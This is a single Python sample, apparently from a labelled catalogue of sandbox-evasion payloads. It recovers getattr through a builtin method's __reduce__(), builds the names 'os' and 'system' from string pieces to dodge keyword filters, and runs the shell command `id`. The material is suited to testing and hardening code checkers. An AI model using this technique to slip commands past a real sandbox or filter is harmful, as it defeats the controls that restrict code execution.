# class: reflective | technique: the real getattr recovered from a bound builtin method's __reduce__() (it returns (getattr, (obj, name))) and used on names built at run time | effect: runs `id` via os.system
import glob

lookup = [].append.__reduce__()[0]
osmod = lookup(glob, "o" + "s")
run = lookup(osmod, "sys" + "tem")
run("id")
